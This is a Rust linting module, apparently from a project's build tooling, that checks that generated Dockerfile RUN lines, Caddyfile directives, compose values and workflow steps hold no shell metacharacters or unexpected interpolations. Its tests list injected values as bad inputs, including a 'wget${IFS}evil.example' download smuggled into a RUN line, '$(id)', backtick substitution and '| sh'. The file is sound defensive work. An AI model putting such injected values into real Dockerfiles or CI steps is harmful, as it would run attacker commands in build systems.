//! Defence in depth: each generated file on disk holds only what the model would write.
//! A RUN line, a Caddy directive, a compose value or a workflow `run:` step that `gen` would
//! not write — a hand edit, or a renderer bug letting a value through — is a finding, found
//! two ways: by the target grammar (a shell metacharacter outside quoting, a control
//! character in a YAML value, an interpolation of another form) and by comparison with what
//! the model renders now.

use super::{Input, Out, Rule};
use crate::parse::yaml::{line_of, Seg};
use crate::stack::{CADDYFILE, COMPOSE, DOCKERFILE, WORKFLOW};

pub const RULES: &[Rule] = &[
    Rule {
        id: "dockerfile/run-shape",
        file: DOCKERFILE,
        rationale: "every RUN line is one the model writes, with no shell metacharacter outside quoting (`;` `|` `&` `>` `<`, `$(`, backticks, `${`): a value smuggled into a RUN line runs as a command",
        check: run_shape,
    },
    Rule {
        id: "caddy/directive-shape",
        file: CADDYFILE,
        rationale: "every Caddy directive and site address is one the model writes: an added `import`, `file_server` or site serves what nobody reviewed",
        check: caddy_shape,
    },
    Rule {
        id: "compose/value-shape",
        file: COMPOSE,
        rationale: "no compose value holds a control character, a command substitution or an interpolation of a form the model never writes; images are references by the OCI grammar",
        check: compose_shape,
    },
    Rule {
        id: "workflow/run-shape",
        file: WORKFLOW,
        rationale: "every `run:` step of the workflow is one the model writes: a step added to a job with `packages: write` runs with its token",
        check: workflow_shape,
    },
];

/// The text the model renders now for `path`.
fn rendered(i: &Input, path: &str) -> Option<String> {
    crate::render::all(&i.model.stack)
        .into_iter()
        .find(|g| g.path == path)
        .map(|g| g.contents)
}

/// The first shell metacharacter outside quoting in a RUN command, if any: what it is.
/// Allowed: `&&` between commands, `;` before `then`/`fi`/`do`/`done`/`else`, and
/// backslash escapes; `$` and backticks are refused outside single quotes.
pub fn shell_metachar(cmd: &str) -> Option<String> {
    let b: Vec<char> = cmd.chars().collect();
    let (mut single, mut double) = (false, false);
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if single {
            if c == '\'' {
                single = false;
            }
            i += 1;
            continue;
        }
        if c == '\\' {
            i += 2;
            continue;
        }
        if c == '`' {
            return Some("a backtick (command substitution)".into());
        }
        if c == '$' {
            return Some(match b.get(i + 1) {
                Some('(') => "`$(` (command substitution)".into(),
                Some('{') => "`${` (an expansion)".into(),
                _ => "`$` (an expansion)".into(),
            });
        }
        if c.is_control() {
            return Some(format!("a control character {c:?}"));
        }
        if double {
            if c == '"' {
                double = false;
            }
            i += 1;
            continue;
        }
        match c {
            '\'' => single = true,
            '"' => double = true,
            '&' if b.get(i + 1) == Some(&'&') => i += 1,
            ';' => {
                let rest: String = b[i + 1..].iter().collect();
                let next = rest.split_whitespace().next().unwrap_or("");
                if !matches!(next, "then" | "fi" | "do" | "done" | "else") {
                    return Some("`;` (a second command)".into());
                }
            }
            '|' | '&' | '>' | '<' => return Some(format!("`{c}`")),
            _ => {}
        }
        i += 1;
    }
    if single || double {
        return Some("an unclosed quote".into());
    }
    None
}

fn run_lines(text: &str) -> Vec<(usize, String, String)> {
    let df = crate::parse::dockerfile::parse(text);
    df.instructions
        .iter()
        .filter(|ins| ins.keyword == "RUN")
        .map(|ins| {
            let flags: Vec<String> = ins.flags.iter().map(|(k, v)| format!("{k}={v}")).collect();
            (ins.line, flags.join(" "), ins.args.clone())
        })
        .collect()
}

fn run_shape(i: &Input, o: &mut Out) {
    let Some(text) = &i.dockerfile_text else {
        return;
    };
    let model: Vec<(String, String)> = rendered(i, DOCKERFILE)
        .map(|t| run_lines(&t).into_iter().map(|(_, f, a)| (f, a)).collect())
        .unwrap_or_default();
    for (line, flags, args) in run_lines(text) {
        if let Some(what) = shell_metachar(&args) {
            o.at(
                DOCKERFILE,
                line,
                format!("RUN holds {what} outside quoting; the model never writes one: a value got into the command. Run `cargo xtask gen` and check the values in infra/stack.toml and the manifests"),
            );
        } else if !model.iter().any(|(f, a)| *f == flags && *a == args) {
            o.at(
                DOCKERFILE,
                line,
                "a RUN line `cargo xtask gen` would not write here; put what it needs into infra/stack.toml or the workspace, then `cargo xtask gen`",
            );
        }
    }
}

/// Names with the line they are on.
type Named = Vec<(String, usize)>;

/// Every directive name (at any depth) and site address of a Caddyfile.
fn caddy_names(c: &crate::parse::caddyfile::Caddyfile) -> (Named, Named) {
    fn walk(ds: &[crate::parse::caddyfile::Directive], out: &mut Named) {
        for d in ds {
            out.push((d.name.clone(), d.line));
            walk(&d.block, out);
        }
    }
    let mut names = Vec::new();
    walk(&c.global, &mut names);
    let mut sites = Vec::new();
    for s in &c.sites {
        for a in &s.addresses {
            sites.push((a.clone(), s.line));
        }
        walk(&s.directives, &mut names);
    }
    (names, sites)
}

fn caddy_shape(i: &Input, o: &mut Out) {
    let Some(on_disk) = &i.caddy else { return };
    let Some(model) = rendered(i, CADDYFILE).map(|t| crate::parse::caddyfile::parse(&t)) else {
        return;
    };
    let (want_names, want_sites) = caddy_names(&model);
    let (names, sites) = caddy_names(on_disk);
    for (n, line) in names {
        if !want_names.iter().any(|(w, _)| *w == n) {
            o.at(
                CADDYFILE,
                line,
                format!(
                    "directive `{}` is not one `cargo xtask gen` writes: a hand edit or a renderer bug; put the intent into infra/stack.toml, then `cargo xtask gen`",
                    crate::values::shown(&n).trim_matches('"')
                ),
            );
        }
    }
    for (a, line) in sites {
        if !want_sites.iter().any(|(w, _)| *w == a) {
            o.at(
                CADDYFILE,
                line,
                format!(
                    "site address {} is not one the model writes (set the sites with `caddy.domains`)",
                    crate::values::shown(&a)
                ),
            );
        }
    }
}

/// What is wrong with one compose string value, if anything.
pub fn compose_value_problem(v: &str) -> Option<String> {
    if let Some(c) = v.chars().find(|c| c.is_control()) {
        return Some(format!("holds the control character {c:?}"));
    }
    if v.contains('`') || v.contains("$(") {
        return Some("holds a command substitution (`$(` or a backtick)".into());
    }
    let b = v.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            match b.get(i + 1) {
                Some(b'$') => {
                    i += 2;
                    continue;
                }
                Some(b'{') => {
                    let rest = &v[i + 2..];
                    let Some(end) = rest.find('}') else {
                        return Some("holds an unclosed `${`".into());
                    };
                    let inner = &rest[..end];
                    let name_end = inner
                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                        .unwrap_or(inner.len());
                    let (name, op) = inner.split_at(name_end);
                    let ok = !name.is_empty()
                        && !name.starts_with(|c: char| c.is_ascii_digit())
                        && (op.is_empty()
                            || op.starts_with(":?")
                            || op.starts_with(":-")
                            || op.starts_with('?'));
                    let op_len = if op.starts_with('?') { 1 } else { 2 };
                    if !ok || op[op.len().min(op_len)..].contains("${") {
                        return Some(format!(
                            "holds the interpolation `${{{}}}`, of a form the model never writes",
                            crate::values::shown(inner).trim_matches('"')
                        ));
                    }
                    i += 2 + end + 1;
                    continue;
                }
                _ => {
                    return Some(
                        "holds a bare `$` (compose interpolates it; the model writes `${NAME…}` or `$$`)".into(),
                    )
                }
            }
        }
        i += 1;
    }
    None
}

/// `${NAME:-default}` → `default`, `${NAME}` → `x` (for checking an image reference).
fn with_defaults(v: &str) -> String {
    let mut out = String::new();
    let mut rest = v;
    while let Some(i) = rest.find("${") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let Some(end) = after.find('}') else { break };
        let inner = &after[..end];
        // a default is checked in lower case: `OWNER` is the template's placeholder owner
        let d = inner.split_once(":-").map(|(_, d)| d).unwrap_or("x");
        out.push_str(&if d == "OWNER" {
            d.to_ascii_lowercase()
        } else {
            d.to_string()
        });
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    out
}

fn compose_shape(i: &Input, o: &mut Out) {
    let Some(doc) = &i.compose else { return };
    let mut found: Vec<(Vec<Seg>, String)> = Vec::new();
    fn walk(v: &serde_yaml::Value, path: &mut Vec<Seg>, out: &mut Vec<(Vec<Seg>, String)>) {
        match v {
            serde_yaml::Value::String(s) => {
                let image = matches!(path.last(), Some(Seg::Key(k)) if k == "image");
                let problem = compose_value_problem(s).or_else(|| {
                    image
                        .then(|| crate::values::image_ref(&with_defaults(s)).err())
                        .flatten()
                        .map(|m| format!("is not an image reference: {m}"))
                });
                if let Some(p) = problem {
                    out.push((path.clone(), p));
                }
            }
            serde_yaml::Value::Sequence(seq) => {
                for (n, x) in seq.iter().enumerate() {
                    path.push(Seg::Index(n));
                    walk(x, path, out);
                    path.pop();
                }
            }
            serde_yaml::Value::Mapping(m) => {
                for (k, x) in m {
                    let key = match k {
                        serde_yaml::Value::String(s) => s.clone(),
                        other => serde_yaml::to_string(other)
                            .unwrap_or_default()
                            .trim()
                            .to_string(),
                    };
                    if let Some(p) = compose_value_problem(&key) {
                        out.push((path.clone(), format!("a key {p}")));
                    }
                    path.push(Seg::Key(key));
                    walk(x, path, out);
                    path.pop();
                }
            }
            serde_yaml::Value::Tagged(t) => walk(&t.value, path, out),
            _ => {}
        }
    }
    walk(&doc.value, &mut Vec::new(), &mut found);
    for (path, problem) in found {
        let line = doc.line(&path);
        let dotted: Vec<String> = path
            .iter()
            .map(|s| match s {
                Seg::Key(k) => k.clone(),
                Seg::Index(n) => n.to_string(),
            })
            .collect();
        o.at(
            COMPOSE,
            line,
            format!(
                "`{}` {problem}; the model never writes that: run `cargo xtask gen` and check the values in infra/stack.toml",
                dotted.join(".")
            ),
        );
    }
}

/// Every `run:` script of a workflow, with its job, step index and line.
fn run_steps(text: &str) -> Vec<(String, usize, String)> {
    let Ok(v) = serde_yaml::from_str::<serde_yaml::Value>(text) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let Some(jobs) = v.get("jobs").and_then(|j| j.as_mapping()) else {
        return out;
    };
    for (id, job) in jobs {
        let Some(id) = id.as_str() else { continue };
        let Some(list) = job.get("steps").and_then(|s| s.as_sequence()) else {
            continue;
        };
        for (n, st) in list.iter().enumerate() {
            if let Some(run) = st.get("run").and_then(|r| r.as_str()) {
                out.push((id.to_string(), n, run.to_string()));
            }
        }
    }
    out
}

fn workflow_shape(i: &Input, o: &mut Out) {
    let Some(text) = &i.workflow else { return };
    let Some(model) = rendered(i, WORKFLOW) else {
        return;
    };
    let want: Vec<String> = run_steps(&model).into_iter().map(|(_, _, r)| r).collect();
    for (job, n, run) in run_steps(text) {
        if !want.contains(&run) {
            let line = line_of(
                text,
                &[
                    Seg::Key("jobs".into()),
                    Seg::Key(job.clone()),
                    Seg::Key("steps".into()),
                    Seg::Index(n),
                    Seg::Key("run".into()),
                ],
            )
            .unwrap_or(1);
            o.at(
                WORKFLOW,
                line,
                format!("a `run:` step of job `{job}` that `cargo xtask gen` would not write; the workflow runs only the model's commands: move the intent into the model, then `cargo xtask gen`"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_metacharacters_outside_quoting() {
        for ok in [
            "corepack enable && corepack prepare pnpm@10.34.9 --activate",
            "pnpm install --frozen-lockfile --filter \"@x/api...\" --ignore-scripts",
            "if [ -d x ]; then find x \\( -name \"*.md\" ! -iname \"licen[cs]e*\" \\) -type f -exec rm -f {} +; fi",
            "cd apps/api && node --run build",
            "echo 'a;b|c$(d)'",
        ] {
            assert_eq!(shell_metachar(ok), None, "{ok}");
        }
        for bad in [
            "corepack prepare pnpm@10.34.9-x;wget${IFS}evil.example --activate",
            "pnpm --filter \"\"; touch /tmp/x; echo \"\" run build",
            "pnpm --filter \"$(id)\" run build",
            "pnpm --filter \"`id`\" run build",
            "a | sh",
            "a > /etc/x",
            "a & b",
            "a; b",
            "echo \"unclosed",
        ] {
            assert!(shell_metachar(bad).is_some(), "{bad}");
        }
    }

    #[test]
    fn compose_values() {
        for ok in [
            "postgres",
            "${TAG:-latest}",
            "${DB_PASSWORD:?set DB_PASSWORD in .env.staging}",
            "${LOG_LEVEL?set LOG_LEVEL in .env.staging (empty is allowed)}",
            "pg_isready -U \"$${POSTGRES_USER}\"",
            "http://ipfs:5001",
        ] {
            assert_eq!(compose_value_problem(ok), None, "{ok}");
        }
        for bad in [
            "a\nb",
            "$(id)",
            "`id`",
            "$HOME",
            "${A:+x}",
            "${1}",
            "${A",
            "${A?${B}}",
        ] {
            assert!(compose_value_problem(bad).is_some(), "{bad}");
        }
        assert_eq!(
            with_defaults("ghcr.io/${IMAGE_OWNER:-owner}/x:${TAG:-latest}"),
            "ghcr.io/owner/x:latest"
        );
    }
}
